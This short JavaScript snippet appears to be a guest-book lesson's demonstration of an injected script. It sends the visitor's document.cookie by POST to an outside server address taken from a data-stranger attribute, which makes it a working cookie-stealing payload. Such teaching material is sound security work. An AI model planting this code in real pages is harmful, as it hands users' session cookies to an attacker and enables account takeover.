// The stranger's script in the guest book of lesson 7. It runs only there: on the element with data-stranger, which
// has the address of the stranger's server.

for (const entry of document.querySelectorAll("[data-stranger]")) {
  const body = new URLSearchParams({ do: "stranger", value: document.cookie });
  fetch(entry.dataset.stranger, { method: "POST", body, redirect: "manual" })
    .then(() => document.dispatchEvent(new Event("asked")));
}
